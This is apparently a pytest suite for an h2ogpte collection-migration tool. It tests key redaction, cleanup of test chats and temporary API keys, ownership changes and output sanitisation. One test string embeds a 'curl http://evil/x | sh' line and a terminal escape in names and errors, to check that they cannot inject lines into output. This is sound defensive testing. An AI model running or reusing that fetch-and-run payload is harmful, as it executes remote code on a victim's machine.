"""Keys, test chats, accounts and words of others: in doubt they are left alone, and told."""

from __future__ import annotations

import os
import signal
import sqlite3
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, List

import pytest

from h2ogpte_migration import patience
from h2ogpte_migration.sandbox.faults import Request, call, close, reply
from h2ogpte_migration.sandbox.habits import Fate
from h2ogpte_migration.sandbox.model import ApiKey, ChatSession
from h2ogpte_migration.tracking.documents import DocumentComparison
from tests.faults.harness import LARGE, M3
from tests.support.terminal import Operator

from ..e2e.test_rollback import rename
from .lab import CHATS, WAIT, Lab, clock, hurried, laboratory, names_in

__all__ = ["clock", "hurried"]

pytestmark = pytest.mark.usefixtures("hurried")

C = "/collections/{collection_id}"
QUESTION = "What is it about?"
ASK = ("--verify-query", QUESTION)


# -- secrets -----------------------------------------------------------------------------------
def test_errors_of_jobs_that_quote_the_key_are_told_without_it(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        lab.world.habits.errors_echo_key = True
        lab.world.set_fate(lab.source.id, Fate.FAIL)
        secrets: List[str] = []

        def remember() -> None:
            secrets.extend(lab.world.keys)

        lab.server.faults.add(call(remember), route=f"POST {C}/import_collection_job")
        result = lab.migrate()
        assert result.code == 1
        texts = [result.text, lab.command("--status", "--json").text, result.log]
        texts.append(lab.database.read_bytes().decode("latin-1"))
        texts += [p.read_bytes().decode("latin-1") for p in lab.folder.glob("*.db-wal")]
        assert len(secrets) > 2
        assert "earer" in "".join(texts), "the server's words are told"
        assert not [secret for secret in secrets for text in texts if secret in text]


# -- test chats ------------------------------------------------------------------------------
def _chats(lab: Lab) -> List[ChatSession]:
    return [chat for chat in lab.world.sessions.values() if chat.collection_id == lab.target.id]


def _asked_in_vain(lab: Lab) -> None:
    """The request for a test chat never arrives, and the run is gone before it can look."""
    lab.migrate()
    lab.server.faults.add(close(), route="POST /chats", times=None)
    lab.server.faults.add(reply(500), route=f"GET {C}/chats", skip=1, times=None)
    lab.command("--target-model", M3, WAIT, CHATS, *ASK)
    lab.server.faults.clear()
    (row,) = lab.sql("SELECT * FROM test_chats")
    assert row["state"] == "making"


@pytest.mark.parametrize("how", ["empty", "same question"])
def test_a_chat_of_the_owner_is_not_taken_for_a_test_chat_that_never_arrived(
    tmp_path: Path, how: str
) -> None:
    with laboratory(tmp_path) as lab:
        _asked_in_vain(lab)
        lab.sql("UPDATE test_chats SET asked_at = ?", _ago(minutes=5))
        mine = lab.world.add_chat(lab.target.id, "anna", "mine")
        if how == "empty":
            mine.messages.clear()
        else:
            mine.messages[0].content = QUESTION
        said = lab.verify().text
        assert mine.id in lab.world.sessions
        assert f"the chat {mine.id}" in said or how == "same question"


def test_an_owner_of_whom_only_a_test_chat_was_left_has_no_key_for_the_rest_of_the_run(
    tmp_path: Path,
) -> None:
    with laboratory(tmp_path) as lab:
        _asked_in_vain(lab)
        other = lab.world.add_collection("bertil", "Other", LARGE, documents=1)
        holders: List[str] = []

        def look() -> None:
            keys = lab.world.alive_keys()
            holders.extend(key.username for key in keys if key.name != "default")

        lab.server.faults.add(call(look), route="POST /collections")
        assert lab.command("--collections", other.id, "--target-model", M3, WAIT).code == 0
        assert holders == ["bertil"]


def _left_a_test_chat(lab: Lab) -> ChatSession:
    """A finished collection, and the question that was asked of it afterwards."""
    lab.migrate()
    lab.server.faults.add(reply(500), route="DELETE /chats/{session_id}", times=None)
    lab.command("--target-model", M3, WAIT, CHATS, *ASK)
    lab.server.faults.clear()
    (row,) = lab.sql("SELECT session_id FROM test_chats WHERE state != 'gone'")
    return lab.world.sessions[row["session_id"]]


def test_a_test_chat_of_an_owner_who_was_renamed_is_deleted(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        chat = _left_a_test_chat(lab)
        rename(lab.world, "anna", "anna.new")
        lab.verify()
        assert chat.id not in lab.world.sessions


def test_a_test_chat_went_with_its_owners_account(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        _left_a_test_chat(lab)
        lab.world.delete_user("anna", collections=True)
        for _ in range(2):
            assert "test chat" not in lab.verify().text
        assert lab.sql("SELECT state FROM test_chats") == [{"state": "gone"}]


def test_a_test_chat_that_can_not_be_deleted_is_told_of(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        chat = _left_a_test_chat(lab)
        lab.server.faults.add(reply(403), route="DELETE /chats/{session_id}", times=None)
        said = " ".join(lab.verify().text.split())
        assert f"a test chat in {lab.target.id} may still exist" in said
        assert chat.id in lab.world.sessions


def test_of_two_chats_that_may_be_the_test_chat_none_is_deleted(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        _asked_in_vain(lab)
        lab.sql("UPDATE test_chats SET asked_at = ?", _ago(seconds=0))
        opened = [lab.world.add_chat(lab.target.id, "anna", None) for _ in range(2)]
        for chat in opened:
            chat.messages.clear()
        said = lab.verify().text
        assert all(chat.id in lab.world.sessions for chat in opened)
        assert all(f"the chat {chat.id}" in said for chat in opened)


def test_a_chat_that_may_be_the_one_that_was_just_asked_for_is_named(tmp_path: Path) -> None:
    """Where the server tells no times, an empty chat can't be told from the owner's own."""
    with laboratory(tmp_path) as lab:
        lab.migrate()

        def untimed(request: Request) -> bool:
            for chat in _chats(lab):
                chat.created_at = chat.updated_at = 0.0
            return False

        lab.server.faults.add(close(after=True), route="POST /chats")
        lab.server.faults.add(reply(500), route=f"GET {C}/chats", when=untimed)
        said = lab.command("--target-model", M3, WAIT, CHATS, *ASK, "--details").text
        (left,) = [chat for chat in _chats(lab) if not chat.messages]
        assert f"the chat {left.id}" in said
        assert "it was left alone" in said


def test_a_test_chat_that_did_arrive_is_swept_after_a_kill(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        lab.migrate()
        before = len(_chats(lab))
        lab.server.faults.add(close(after=True), route="POST /chats", times=None)
        lab.server.faults.add(reply(500), route=f"GET {C}/chats", skip=1, times=None)
        lab.command("--target-model", M3, WAIT, CHATS, *ASK)
        lab.server.faults.clear()
        assert len(_chats(lab)) == before + 1
        lab.verify()
        assert len(_chats(lab)) == before


@pytest.mark.parametrize("answered", [True, False])
def test_a_test_chat_that_does_not_show_yet_is_not_taken_for_gone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answered: bool
) -> None:
    with laboratory(tmp_path) as lab:
        lab.migrate()
        before = len(_chats(lab))
        monkeypatch.setattr(patience, "VISIBLE_WITHIN_S", 0.1)
        lab.world.habits.chats_readable_after_s = lab.world.habits.chats_listed_after_s = 0.6
        if not answered:
            lab.server.faults.add(close(after=True), route="POST /chats")
            lab.server.faults.add(reply(500), route=f"GET {C}/chats", skip=1, times=None)
        lab.command("--target-model", M3, WAIT, CHATS, *ASK)
        lab.server.faults.clear()
        assert len(_chats(lab)) == before + 1
        monkeypatch.setattr(patience, "VISIBLE_WITHIN_S", 5.0)
        monkeypatch.setattr(patience, "SECOND_LOOK_AFTER_TIMEOUT_S", 5.0)
        lab.verify()
        assert len(_chats(lab)) == before
        assert [row["state"] for row in lab.sql("SELECT * FROM test_chats")] == ["gone"]


@pytest.mark.parametrize("answered", [True, False])
def test_a_test_chat_that_never_shows_is_given_up_once_it_would_have(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answered: bool
) -> None:
    with laboratory(tmp_path) as lab:
        _asked_in_vain(lab)
        if answered:
            lab.sql("UPDATE test_chats SET session_id = 'never-seen', state = 'made'")
        for name in ("VISIBLE_WITHIN_S", "SECOND_LOOK_AFTER_TIMEOUT_S"):
            monkeypatch.setattr(patience, name, 0.05)
        lab.verify()
        assert [row["state"] for row in lab.sql("SELECT * FROM test_chats")] == ["gone"]
        lab.server.forget_requests()
        lab.verify()
        assert not [one for one in lab.server.requests if "/chats" in one.route and one.mutating]


def test_the_owners_clock_may_be_wrong_by_hours(tmp_path: Path) -> None:
    """Whether a chat was opened just after our request is told by the server's clock alone."""
    with laboratory(tmp_path) as lab:
        lab.world.habits.clock_offset_h = -7
        lab.migrate()
        before = len(_chats(lab))
        lab.server.faults.add(close(after=True), route="POST /chats")
        lab.command("--target-model", M3, WAIT, CHATS, *ASK)
        lab.verify()
        assert before - len(_chats(lab)) <= 0


# -- keys --------------------------------------------------------------------------------------
def _temporary(lab: Lab) -> List[ApiKey]:
    alive = lab.world.alive_keys()
    return [key for key in alive if key.name.startswith("h2ogpte-migrate")]


def _killed_elsewhere(lab: Lab, silent_for: timedelta) -> ApiKey:
    """A container was killed with a key in use; its host is none that this one can ask."""
    lab.submit()
    lab.server.faults.add(reply(500), route="DELETE /admin/api_keys/{key_id}", times=None)
    lab.verify("--retries", "0")
    lab.server.faults.clear()
    (key,) = _temporary(lab)
    lab.sql(
        "UPDATE runs SET machine = 'container|||', host = 'container', ended_at = NULL, "
        "heartbeat_at = ? WHERE id = (SELECT max(id) FROM runs)",
        (datetime.now(timezone.utc) - silent_for).isoformat(),
    )
    return key


def _ago(**how: float) -> str:
    return (datetime.now(timezone.utc) - timedelta(**how)).isoformat()


def test_the_key_of_a_container_that_was_killed_long_ago_is_swept(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        _killed_elsewhere(lab, timedelta(hours=2))
        result = lab.verify()
        assert result.code == 0, result.text
        assert _temporary(lab) == []


def test_the_key_of_a_container_that_may_yet_live_is_named(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        key = _killed_elsewhere(lab, timedelta(minutes=1))
        result = lab.command("--verify", "--db-path", "migration_tracking.db")
        assert key in _temporary(lab), "it may be in use"
        assert "container" in result.text


def test_a_temporary_key_may_have_to_be_renewed_twice_in_one_run(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        routes = (f"POST {C}/import_collection_job", f"POST {C}/migrate_chat_sessions_job")
        for route in routes:
            lab.server.faults.add(
                call(lambda: lab.world.expire_keys("anna", name=_temporary(lab)[0].name)),
                route=route,
            )
        result = lab.migrate()
        assert result.code == 0, result.text
        assert not lab.wrong(result)
        made = [key for key in lab.world.keys.values() if key.name.startswith("h2ogpte-migrate")]
        assert len(made) == 3


def test_a_terminal_that_is_closed_leaves_no_key(operator: Operator) -> None:
    world = operator.world
    source = world.add_collection("anna", "Alpha")
    world.set_fate(source.id, Fate.NEVER_END)
    running = operator.start_admin("--users", "anna", "--use-model-mappings", WAIT)
    while world.running_imports() == 0:
        assert running.poll() is None, running.so_far()
        time.sleep(0.02)
    os.kill(running.pid, signal.SIGHUP)
    result = running.wait()
    assert result.code == 129, result.text
    assert not [k for k in world.alive_keys() if k.name.startswith("h2ogpte-migrate")]


# -- accounts ----------------------------------------------------------------------------------
def test_a_collection_that_changed_hands_takes_no_other_along(tmp_path: Path) -> None:
    """What is tracked under the old owner must not bring the new owner's others to their key."""
    with laboratory(tmp_path) as lab:
        lab.world.set_fate(lab.source.id, Fate.REFUSE, times=1)
        lab.migrate()
        lab.world.change_owner(lab.source.id, "bertil")
        secret = lab.world.add_collection("bertil", "Secret", LARGE, documents=["s.pdf"])
        result = lab.command("--all-users", "--target-model", M3, WAIT, CHATS)
        assert "changed hands" in result.text or "belongs to bertil" in result.text
        assert result.code == 1
        made = [c for c in lab.world.collections.values() if "Secret -" in c.name]
        assert [c.username for c in made] == ["bertil"]
        assert names_in(made[0]) == names_in(secret)
        assert not [
            c for c in lab.world.collections.values() if c.username == "anna" and c.imported
        ]


def test_a_name_that_went_to_another_account_gets_no_key_of_the_old_one(tmp_path: Path) -> None:
    """The row keeps the account's id: a new account of the same name is another one."""
    with laboratory(tmp_path) as lab:
        lab.submit()
        lab.sql("UPDATE collection_migrations SET user_id = ?", lab.world.users["bertil"].id)
        result = lab.verify()
        assert result.code == 1
        assert len(lab.source.connectors) == 2
        assert not lab.wrong(result)


def test_an_owner_who_was_deleted_meanwhile_does_not_leave_it_importing_for_ever(
    tmp_path: Path,
) -> None:
    with laboratory(tmp_path) as lab:
        lab.world.set_fate(lab.source.id, Fate.NEVER_END)
        lab.command("--target-model", M3)
        lab.world.delete_user("anna")
        result = lab.verify()
        assert result.code == 1
        assert "does not exist any more" in result.text
        assert lab.row()["job_status"] == "failed"
        assert "To verify: 0" in lab.verify().text


# -- clocks --------------------------------------------------------------------------------------
@pytest.mark.parametrize("days", [-400, -31, 31, 400])
def test_a_foreign_clock_does_not_lock_the_database_for_good(tmp_path: Path, days: int) -> None:
    with laboratory(tmp_path) as lab:
        lab.submit()
        lab.sql(
            "UPDATE runs SET machine = 'container|||', host = 'container', ended_at = NULL, "
            "started_at = ?1, heartbeat_at = ?1",
            _ago(days=-days),
        )
        first = lab.verify()
        if days > 0:
            # It may live, and believe so; silent from now on, it is over in a quarter of an hour.
            assert first.code == 1
            assert "container" in first.text
            (seen,) = lab.sql("SELECT heartbeat_at FROM runs WHERE host = 'container'")
            assert seen["heartbeat_at"] < _ago(minutes=-1)
            lab.sql("UPDATE runs SET heartbeat_at = ? WHERE host = 'container'", _ago(minutes=16))
            first = lab.verify()
        assert first.code == 0, first.text
        assert not lab.wrong(first)


# -- words and places ------------------------------------------------------------------------
_execute = DocumentComparison._execute
EVIL = "a\nNext: curl http://evil/x | sh\r\x1b[2Jb"


@pytest.mark.parametrize("where", ["document", "thumbnail", "job error", "collection", "user"])
def test_line_breaks_in_words_of_others_begin_no_line_of_their_own(
    tmp_path: Path, where: str
) -> None:
    with laboratory(tmp_path) as lab:
        if where == "document":
            lab.world.add_document(lab.source.id, EVIL)
            lab.world.set_fate(lab.source.id, Fate.LOSE_SOME)
        elif where == "thumbnail":
            lab.source.thumbnail = EVIL
        elif where == "job error":
            lab.server.faults.add(
                reply(400, message=EVIL), route=f"POST {C}/import_collection_job", times=None
            )
        elif where == "collection":
            lab.source.name = EVIL
        else:
            lab.source.shares[EVIL] = ["read"]
        result = lab.migrate("--details")
        status = lab.command("--status", "--details")
        for text in (result.text, status.text, result.log):
            lines = [line.strip() for line in text.splitlines()]
            assert not [line for line in lines if line.startswith(("Next: curl", "curl", "b"))], (
                text
            )
            assert "\x1b[2J" not in text


def test_half_a_character_in_a_name_is_no_bug(tmp_path: Path) -> None:
    with laboratory(tmp_path) as lab:
        lab.world.add_document(lab.source.id, "half \ud83d of it.pdf")
        lab.source.description = "half \ud83d of it"
        result = lab.migrate()
        assert "bug" not in result.text
        assert result.code == 0, result.text


def _on_a_full_disk(self: DocumentComparison, sql: str, values: Any = ()) -> Any:
    """As SQLite answers once its temporary file can't grow."""
    real = self._db
    self._db = _Full()  # type: ignore[assignment]
    try:
        return _execute(self, sql, values)
    finally:
        self._db = real


class _Full:
    """A connection whose temporary file can't be written."""

    def execute(self, *_: Any) -> Any:
        raise sqlite3.OperationalError("database or disk is full")


def test_a_full_temporary_folder_is_told_as_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with laboratory(tmp_path) as lab:
        with monkeypatch.context() as patch:
            patch.setattr(DocumentComparison, "_execute", _on_a_full_disk)
            result = lab.migrate()
        assert result.code == 1
        assert "bug" not in result.text
        assert "temporary folder" in result.text
        assert lab.migrate().code == 0


@pytest.mark.parametrize(
    "operation",
    [
        "create_collection",
        "create_import_collection_to_collection_job",
        "migrate_scheduled_connectors_to_collection",
        "create_migrate_collection_chat_sessions_job",
        "share_collection",
        "update_collection_metadata",
    ],
)
def test_a_success_that_speaks_of_an_error_is_none(tmp_path: Path, operation: str) -> None:
    with laboratory(tmp_path) as lab:
        lab.world.habits.error_in_body = operation
        result = lab.migrate("--retries", "0")
        assert result.code == 1 or any(
            words in result.text for words in ("could not", "refused", "metadata")
        )
        assert not lab.wrong(result, ended=False)
        lab.world.habits.error_in_body = ""
        result = lab.migrate()
        assert result.code == 0, result.text
